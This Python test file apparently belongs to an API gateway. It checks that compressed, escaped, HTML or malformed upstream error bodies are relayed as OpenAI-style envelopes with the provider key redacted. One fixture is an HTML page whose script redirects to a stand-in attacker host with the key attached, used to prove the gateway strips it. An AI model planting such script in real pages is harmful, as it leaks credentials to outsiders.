"""What a misbehaving upstream's error body becomes for the client: compressed, escaped,
HTML or odd-shaped, it reaches the client as a well-formed OpenAI envelope without the
provider key, with the upstream's status."""

from __future__ import annotations

import gzip
import json
import zlib
from typing import Any

import openai
import pytest

from tests.integration.upstream_errors_support import (
    ECHO,
    ESCAPED_KEY,
    MESSAGES,
    PROVIDER_KEY,
    _assert_no_key,
    _post,
    gateway,
)
from tests.support.fake_upstream import FakeUpstream
from tests.support.gateway import RunningGateway

__all__ = ["gateway"]


# --- compressed and escaped error bodies ------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "compress"),
    [
        ("gzip", gzip.compress),
        ("deflate", zlib.compress),
        ("deflate", lambda raw: zlib.compress(raw)[2:-4]),  # raw deflate, no zlib header
    ],
)
def test_a_compressed_error_body_is_decoded_redacted_and_relayed_as_plain_json(
    gateway: RunningGateway, upstream: FakeUpstream, encoding: str, compress: Any
) -> None:
    upstream.behave(
        "small-model",
        fail_always=400,
        error_raw=compress(json.dumps(ECHO).encode()),
        error_headers={"content-encoding": encoding},
    )
    response = _post(gateway)
    assert response.status_code == 400
    assert "content-encoding" not in response.headers
    assert response.headers["content-type"] == "application/json"
    error = json.loads(response.content)["error"]
    assert error["code"] == "bad_messages" and error["param"] == "messages"
    assert error["message"] == "Bad request for key [redacted] ([redacted])."
    (row,) = gateway.rows()
    assert row["http_status"] == 400 and row["error_class"] == "upstream_4xx"


def test_an_error_body_in_an_encoding_the_gateway_cannot_undo_becomes_an_envelope(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    upstream.behave(
        "small-model",
        fail_always=404,
        error_raw=b"\x1b\x2a\x00\xf8" + PROVIDER_KEY.encode(),
        error_headers={"content-encoding": "br"},
    )
    with pytest.raises(openai.NotFoundError) as caught:
        gateway.client().chat.completions.create(model="chat", messages=MESSAGES)
    body = caught.value.body
    assert isinstance(body, dict) and body["code"] == "upstream_error"
    assert "could not decode (content-encoding br)" in body["message"]
    _assert_no_key(caught.value.response.text)


def test_a_json_escaped_echo_of_the_provider_key_is_redacted(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    raw = (
        '{"error": {"message": "Incorrect API key provided: ' + ESCAPED_KEY + '.", '
        '"type": "invalid_request_error", "param": null, "code": "invalid_key",'
        ' "metadata": {"raw": ["\\u0073k-upstream-secret-42", {"sk-ups\\u002a***t-42": 1}]}},'
        ' "user_id": "acct-7"}'
    )
    upstream.behave("small-model", fail_always=422, error_raw=raw.encode())
    with pytest.raises(openai.UnprocessableEntityError) as caught:
        gateway.client().chat.completions.create(model="chat", messages=MESSAGES)
    text = caught.value.response.text
    _assert_no_key(text)
    assert json.loads(text) == {
        "error": {
            "message": "Incorrect API key provided: [redacted].",
            "type": "invalid_request_error",
            "param": None,
            "code": "invalid_key",
            "metadata": {"raw": ["[redacted]", {"[redacted]": 1}]},
        }
    }  # what sat beside "error" (an account id) stays behind


# --- error bodies a client could not read -----------------------------------------------------

PAGE = (
    b"<!DOCTYPE html><html><head><title>Service &amp; Gateway Error</title>"
    b"<script>document.location='https://evil.example/?k=" + PROVIDER_KEY.encode() + b"'</script>"
    b"</head><body><h1>Oops</h1></body></html>"
)


@pytest.mark.parametrize(
    ("raw", "content_type", "expected"),
    [
        (PAGE, "text/html; charset=utf-8", "non-JSON error body (text/html): Service & Gateway"),
        (
            b"model\x00 gone \x1b[31m" + PROVIDER_KEY.encode(),
            "text/plain",
            ": model gone [redacted]",
        ),
        (b'{"detail": "Not Found"}', "application/json", "Not Found"),
        (b'{"detail": [{"loc": ["body"], "msg": "field required"}]}', "application/json", "field"),
        (b'"the model is gone"', "application/json", "the model is gone"),
        (b'{"error": "no such model"}', "application/json", "no such model"),
        (b'{"status": 404}', "application/json", 'no known shape: {"status":404}'),
        (b"", "text/plain", "with an empty error body"),
    ],
)
def test_an_error_body_that_is_no_openai_envelope_is_wrapped_in_one(
    gateway: RunningGateway,
    upstream: FakeUpstream,
    raw: bytes,
    content_type: str,
    expected: str,
) -> None:
    upstream.behave(
        "small-model",
        fail_always=404,
        error_raw=raw,
        error_headers={"content-type": content_type},
    )
    response = _post(gateway)
    assert response.status_code == 404  # a passthrough 4xx keeps its status
    assert response.headers["content-type"] == "application/json"
    error = response.json()["error"]
    assert set(error) == {"message", "type", "param", "code"}
    assert (error["type"], error["code"]) == ("invalid_request_error", "upstream_error")
    assert expected in error["message"]
    assert "<" not in error["message"] and "script" not in error["message"]
    assert "\x1b" not in error["message"] and "\x00" not in error["message"]
    _assert_no_key(response.text)
    (row,) = gateway.rows()
    assert row["http_status"] == 404 and row["error_class"] == "upstream_4xx"
